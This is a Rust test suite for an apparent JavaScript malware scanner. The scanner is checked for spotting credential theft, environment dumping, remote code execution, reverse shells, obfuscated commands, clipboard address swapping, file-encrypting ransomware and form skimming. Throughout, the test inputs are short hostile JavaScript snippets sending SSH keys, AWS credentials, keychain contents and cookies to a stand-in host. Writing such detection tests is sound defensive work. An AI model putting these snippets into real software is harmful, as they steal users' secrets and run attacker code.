use super::*;
use crate::action::{CodeOrigin, Taint};

fn actions(text: &str) -> Actions {
    read("x.js", text).unwrap_or_else(|error| panic!("{error}: {text}"))
}

fn executes(text: &str) -> Option<CodeOrigin> {
    actions(text).located.into_iter().find_map(|seen| match seen.action {
        Action::ExecutesCode(code) => Some(code),
        _ => None,
    })
}

fn sends(text: &str) -> Taint {
    let sent = actions(text).located.into_iter().find_map(|seen| match seen.action {
        Action::Connects { sends, .. } if sends.is_secret() => Some(sends),
        _ => None,
    });
    sent.unwrap_or_default()
}

fn inner(text: &str) -> Vec<String> {
    actions(text).embedded.into_iter().map(|inner| inner.text).collect()
}

#[test]
fn credentials_flow_to_hosts() {
    for text in [
        "const fs = require('fs');\nconst k = fs.readFileSync(require('os').homedir() + '/.ssh/id_rsa');\nfetch('https://a.example', { method: 'POST', body: k });",
        "import { readFileSync as r } from 'node:fs';\nimport axios from 'axios';\nconst send = (d) => axios.post('https://a.example', d);\nsend(r(`${process.env.HOME}/.aws/credentials`, 'utf8'));",
        "const https = require('https'); const fs = require('fs');\nconst q = https.request({ hostname: 'a.example' });\nq.write(fs.readFileSync('/etc/shadow')); q.end();",
        "import fs from 'fs/promises';\nasync function go(): Promise<void> { const d = await fs.readFile('/x/.ssh/id_rsa'); await fetch('https://a.example', { body: JSON.stringify({ d }) }); }\ngo();",
    ] {
        assert!(sends(text).credential.is_some(), "{text}");
    }
    assert!(
        sends("fetch('https://a.example', { method: 'POST', body: JSON.stringify(process.env) })")
            .environment
    );
    assert!(
        sends(
            "const e = { ...process.env }; fetch('https://a.example', { body: JSON.stringify(e) })"
        )
        .environment
    );
}

#[test]
fn login_tokens_are_not_reported_as_sent() {
    let text = "const k = process.env.API_KEY;\nfetch('https://a.example', { headers: { Authorization: `Bearer ${k}` } });";
    assert!(!sends(text).is_secret());
    assert!(!sends("require('child_process').spawn('ls', [], { env: process.env })").is_secret());
}

#[test]
fn downloaded_code_is_reported() {
    let fetched = Some(CodeOrigin::Fetched("https://a.example/x".into()));
    assert_eq!(
        executes("const r = await fetch('https://a.example/x'); eval(await r.text());"),
        fetched
    );
    assert_eq!(executes("eval(atob('YWxlcnQoMSk='))"), Some(CodeOrigin::Decoded));
    assert_eq!(
        executes("new Function(Buffer.from('YWxlcnQoMSk=', 'base64').toString())()"),
        Some(CodeOrigin::Decoded)
    );
    assert_eq!(executes("globalThis['ev' + 'al'](x)"), Some(CodeOrigin::Computed));
    assert_eq!(executes("console.log('eval')"), None);
}

#[test]
fn constants_are_folded() {
    let run =
        |code: &str| inner(&format!("const {{ exec }} = require('child_process');\nexec({code});"));
    assert_eq!(run("'cu' + 'rl x'"), ["curl x"]);
    assert_eq!(run("String.fromCharCode(99, 117, 114, 108)"), ["curl"]);
    assert_eq!(run("'lruc'.split('').reverse().join('')"), ["curl"]);
    assert_eq!(run("['curl', 'x'].join(' ')"), ["curl x"]);
    assert_eq!(run("Buffer.from('6375726c', 'hex').toString()"), ["curl"]);
    assert_eq!(run("'\\x63url x'"), ["curl x"]);
}

#[test]
fn reverse_shells_are_found() {
    let text = "const net = require('net'), cp = require('child_process');\nconst sh = cp.spawn('/bin/sh', []);\nconst c = new net.Socket();\nc.connect(9, '1.2.3.4', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });";
    assert!(actions(text).located.iter().any(|seen| seen.action == Action::ReverseShell));
}

#[test]
fn deep_nesting_is_rejected() {
    for text in ["(", "[", "!", "a=>", "if(a)", "a?", "{", "`${", "-", "new ", "await "] {
        assert!(read("x.js", &text.repeat(50_000)).is_err(), "{text}");
    }
}

fn has(text: &str, wanted: &Action) -> bool {
    actions(text).located.iter().any(|seen| seen.action == *wanted)
}

fn hosts(text: &str) -> Vec<(String, Vec<String>)> {
    let network = actions(text).located.into_iter().filter_map(|seen| match seen.action {
        Action::Connects { to, log_in, .. } => Some((to, log_in)),
        _ => None,
    });
    network.collect()
}

#[test]
fn secrets_flow_through_callbacks_and_streams() {
    for text in [
        "const fs = require('fs'), https = require('https'); const out = [];\n['.npmrc', 'x'].forEach(function (f) { out.push(fs.readFileSync('~/' + f)); });\nconst q = https.request({ hostname: 'a.example' }); q.end(out.join());",
        "const fs = require('fs');\nfetch('https://a.example', { body: ['/x/.ssh/id_rsa'].map(fs.readFileSync).join() });",
        "const fs = require('fs/promises');\nfs.readFile('/x/.ssh/id_rsa').then((k) => fetch('https://a.example', { method: 'POST', body: k }));",
        "const fs = require('fs');\nfs.readFile('/x/.ssh/id_rsa', (e, d) => fetch('https://a.example', { body: d }));",
        "import fs from 'fs';\nfunction* keys() { for (const n of ['a', '~/.ssh/id_rsa']) yield fs.readFileSync(n); }\nfor (const k of keys()) fetch('https://a.example', { body: k });",
        "const fs = require('fs'), net = require('net');\nconst s = net.connect(7, 'a.example', () => fs.createReadStream('/x/.ssh/id_rsa').pipe(s));",
        "import fs from 'fs';\nconst f = new FormData(); f.append('k', fs.readFileSync('/x/.ssh/id_rsa'));\nawait fetch('https://a.example', { method: 'POST', body: f });",
        "const m = require('nodemailer').createTransport({ host: 'a.example' });\nconst attachments = []; attachments.push({ path: '/x/.ssh/id_rsa' });\nm.sendMail({ to: 'x', attachments });",
        "const { execFileSync: x } = require('child_process');\nfetch('https://a.example', { body: x('bw', ['list', 'items']) });",
        "const cp = require('child_process');\ncp.spawn('curl', ['-d', '@-', 'https://a.example']).stdin.end(cp.execSync('security dump-keychain -d'));",
        "const run = (c) => require('child_process').execSync(c).toString();\nrun('ls'); fetch('https://a.example', { body: ['ls', 'cat ~/.aws/credentials'].map(run).join() });",
        "import { Glob } from 'bun';\nfor await (const n of new Glob('*/key4.db').scan('~/.mozilla/firefox')) fetch('https://a.example', { body: Bun.file(n) });",
        "const u = new URL('https://a.example'); u.searchParams.set('k', require('fs').readFileSync('/x/.ssh/id_rsa')); fetch(u);",
        "const p = await require('inquirer').prompt([{ type: 'password', name: 'p' }]); fetch('https://a.example', { body: p });",
    ] {
        assert!(sends(text).credential.is_some(), "{text}");
    }
    for text in [
        "import { request } from 'undici';\nclass A { private props = {}; constructor() { for (const [k, v] of Object.entries(process.env)) this.props[k] = v; }\n done() { return request(`https://a.example/?d=${JSON.stringify({ p: this.props })}`); } }\nnew A().done();",
        "const all = {}; for (const k of Object.keys(process.env)) all[k] = process.env[k];\nfetch('https://a.example', { body: JSON.stringify(all) });",
    ] {
        assert!(sends(text).environment, "{text}");
    }
    let text = "const { glob } = require('glob'); const fs = require('fs');\nfor (const f of await glob(process.env.HOME + '/Documents/**/*.md')) fetch('https://a.example', { body: fs.readFileSync(f) });";
    assert!(sends(text).files);
}

#[test]
fn downloaded_code_is_found_in_all_call_forms() {
    for text in [
        "fetch('https://a.example/x').then((r) => r.text()).then(eval);",
        "const W = require('ws'); const ws = new W('https://a.example/x');\nws.on('message', (m) => { const { v } = JSON.parse(String(m)); require('child_process').spawn(v, { shell: true }); });",
        "const ws = new WebSocket('https://a.example/x'); ws.addEventListener('message', (m) => new Function(m.data)());",
        "require('https').get('https://a.example/x', (res) => { const c = []; res.on('data', (d) => c.push(d)); res.on('end', () => require('vm').runInThisContext(Buffer.concat(c).toString())); });",
        "import { writeFileSync } from 'fs'; import { pathToFileURL } from 'url';\nconst b = await (await fetch('https://a.example/x')).arrayBuffer();\nconst w = '/tmp/h.mjs'; writeFileSync(w, Buffer.from(b)); await import(pathToFileURL(w).href);",
        "const fs = require('fs'), cp = require('child_process');\nfetch('https://a.example/x').then(async (r) => { fs.writeFileSync('/tmp/h', await r.text()); cp.execFile('/tmp/h'); });",
    ] {
        assert_eq!(
            executes(text),
            Some(CodeOrigin::Fetched("https://a.example/x".into())),
            "{text}"
        );
    }
    let text = "const F = Object.getPrototypeOf(async () => {})['const' + 'ructor']; new F(x)();";
    assert_eq!(executes(text), Some(CodeOrigin::Computed));
    for text in [
        "const fs = require('fs');\nfetch('https://a.example/x').then((r) => r.text()).then((t) => fs.writeFileSync('data.json', t));",
        "const cp = require('child_process');\nconst r = await fetch('https://a.example/x'); cp.execFileSync('git', ['checkout', await r.text()]);",
        "fetch('https://a.example/x').then((r) => r.json()).then(console.log);",
    ] {
        assert_eq!(executes(text), None, "{text}");
    }
}

#[test]
fn client_addresses_are_recorded() {
    let token = |name: &str| vec![name.to_owned()];
    let text = "import OpenAI from 'openai'; new OpenAI({ apiKey: process.env.OPENAI_API_KEY, baseURL: 'https://a.example/v1' });";
    assert!(hosts(text).contains(&("https://a.example/v1".into(), token("OPENAI_API_KEY"))));
    let text = "import WebSocket from 'ws'; const { CLOUDFLARE_API_TOKEN: s } = process.env;\nnew WebSocket('wss://a.example/', [], { headers: { Cookie: `s=${s}` } });";
    assert!(hosts(text).contains(&("wss://a.example/".into(), token("CLOUDFLARE_API_TOKEN"))));
    let text = "const api = require('axios').create({ baseURL: 'https://a.example', headers: { A: process.env.X_KEY } }); api.post('/q', { q: 1 });";
    assert!(!sends(text).is_secret());
}

#[test]
fn functions_of_other_files_are_known() {
    let mut state = CrossFileState::default();
    let main = "const { report } = require('./report');\nreport(require('fs').readFileSync('/x/.ssh/id_rsa'));";
    let report = "exports.report = async (facts) => fetch('https://a.example', { body: facts });";
    assert!(read_with("main.js", main, &mut state).is_ok());
    let found = read_with("report.js", report, &mut state).unwrap_or_default();
    let sent = found.located.iter().any(
        |seen| matches!(&seen.action, Action::Connects { sends, .. } if sends.credential.is_some()),
    );
    assert!(sent);
}

#[test]
fn user_files_and_clipboard_are_tainted() {
    let swap = Action::Obfuscates("the clipboard content of the user is replaced");
    let text = "import c from 'clipboardy'; setInterval(() => { if (/^bc1/.test(c.readSync())) c.writeSync('bc1x'); }, 500);";
    assert!(has(text, &swap));
    assert!(!has("import c from 'clipboardy'; c.writeSync('x');", &swap));
    let text = "const fs = require('fs'), crypto = require('crypto');\nfor (const f of fs.readdirSync('x')) { const c = crypto.createCipheriv('a', k, v); fs.writeFileSync(f + '.enc', c.update(fs.readFileSync(f))); fs.unlinkSync(f); }";
    assert!(has(text, &Action::DestroysData("the user's files after encrypting them".into())));
}

#[test]
fn harmless_scripts_have_no_actions() {
    for text in [
        "const env = (n) => process.env[n]; fetch('https://a.example', { method: 'POST', body: JSON.stringify({ m: env('MODE') }) });",
        "const c = { key: process.env.X_KEY, url: 'https://a.example' }; fetch(c.url, { method: 'POST', body: '1' });",
        "const fs = require('fs'); const c = JSON.parse(fs.readFileSync('config.json')); fetch(c.url, { body: process.argv[2] });",
    ] {
        assert!(!sends(text).is_secret(), "{text}");
    }
}

#[test]
fn nested_calls_terminate() {
    let function = |n: usize| format!("const f{n} = (x) => {{ f{m}(x); f{m}(x); }};\n", m = n + 1);
    let functions = (0..40).map(function).collect::<Vec<_>>().concat();
    assert!(read("x.js", &format!("{functions}f0(process.env);")).is_ok());
    // As deep as is allowed, on a stack as large as the scanner's.
    let deep = |open: &str, close: &str| format!("{}{}", open.repeat(480), close.repeat(480));
    let texts = [
        deep("(() => { ", " })();"),
        format!("const f = () => {{ {} f(); {} }}; f();", "if (a) {".repeat(480), "}".repeat(480)),
        deep("[", "]"),
        deep("f(", ")"),
    ];
    let scanner = std::thread::Builder::new().stack_size(crate::STACK);
    let thread = scanner.spawn(move || texts.map(|text| read("x.js", &text).is_ok()));
    let results = thread.ok().and_then(|thread| thread.join().ok());
    assert_eq!(results, Some([true; 4]));
}

#[test]
fn web_form_data_is_tracked() {
    let private = |text: &str| {
        let actions = actions(text).located;
        actions.iter()
            .any(|seen| matches!(&seen.action, Action::Connects { sends, .. } if sends.private.is_some()))
    };
    for text in [
        "module.exports = () => (req, res, next) => { fetch('https://a.example', { body: req.headers.cookie }); };",
        "module.exports = ({ body }, res, next) => { fetch('https://a.example', { body }); };",
        "exports.m = async (ctx, next) => { fetch('https://a.example', { body: ctx.request.headers }); };",
        "const p = `<input type=\"password\">`; app.post('/', (req, res) => { fetch('https://a.example', { body: req.body }); });",
        "const p = `<input name=otc>`; require('http').createServer((req, res) => { let b = ''; req.on('data', d => (b += d)); req.on('end', () => fetch('https://a.example', { body: b })); });",
        "const s = require('dgram').createSocket('udp4'); s.send(require('clipboardy').readSync(), 53, 'a.example');",
    ] {
        assert!(private(text), "{text}");
    }
    for text in [
        "app.post('/', (req, res) => fetch('https://a.example', { body: req.body }));",
        "module.exports = (req, res, next) => fetch('https://a.example', { headers: req.headers });",
        "module.exports = (req, res, next) => fetch('https://a.example', { body: req.path });",
    ] {
        assert!(!private(text), "{text}");
    }
}

#[test]
fn functions_constructed_from_responses_are_found() {
    for code in [
        "new Function.constructor('require', d.x)(require)",
        "Function.constructor(d.x)()",
        "[].constructor.constructor(d.x)()",
        "Reflect.construct(Function, [d.x])()",
        "setTimeout(d.x, 10)",
    ] {
        let text = format!(
            "const axios = require('axios'); axios.get('https://a.example').then(r => r.data).then(d => {{ {code}; }});"
        );
        assert!(matches!(executes(&text), Some(CodeOrigin::Fetched(_))), "{code}");
    }
    assert_eq!(
        executes("fetch('https://a.example').then(d => new Promise(r => setTimeout(r, d.wait)));"),
        None
    );
}

#[test]
fn fixed_mail_recipients_are_found() {
    let has_fixed_recipient = |text: &str| {
        let actions = actions(text).located;
        actions.iter()
            .any(|seen| matches!(&seen.action, Action::Connects { to, .. } if to.contains("a@b.example")))
    };
    assert!(has_fixed_recipient("t.sendMail({ to: user, bcc: 'a@b.example' });"));
    assert!(has_fixed_recipient("GmailApp.sendEmail(to, 's', b, { bcc: 'a@b.example' });"));
    assert!(has_fixed_recipient("t.sendMail({ to: [user, 'a@b.example'] });"));
    assert!(!has_fixed_recipient("t.sendMail({ to: 'a@b.example' });"));
    assert!(!has_fixed_recipient("t.sendMail({ to: user, bcc: process.env.BCC });"));
}
